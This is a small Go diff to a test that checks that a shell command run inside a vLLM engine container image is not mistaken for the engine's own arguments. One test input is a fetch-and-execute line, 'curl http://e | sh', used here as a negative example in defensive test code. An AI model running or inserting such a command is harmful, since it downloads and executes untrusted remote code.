@@ -49,10 +49,10 @@ func TestIndirect(t *testing.T) {
 // TestNoEngineInAShell: what a shell runs in an engine's image is not read as the engine's arguments.
 func TestNoEngineInAShell(t *testing.T) {
 	t.Parallel()
-	if c, ok := InImage("vllm/vllm-openai:v1", []string{"sh", "-c", "curl http://e | sh"}, nil); ok {
+	if c, ok := inImage("vllm/vllm-openai:v1", []string{"sh", "-c", "curl http://e | sh"}, nil); ok {
 		t.Errorf("read as %+v", c)
 	}
-	if c, ok := InImage("vllm/vllm-openai:v1", []string{"a/b", "--port", "81"}, nil); !ok || c.Model != "a/b" || c.Port != 81 {
+	if c, ok := inImage("vllm/vllm-openai:v1", []string{"a/b", "--port", "81"}, nil); !ok || c.Model != "a/b" || c.Port != 81 {
 		t.Errorf("the control: %+v %v", c, ok)
 	}
 }
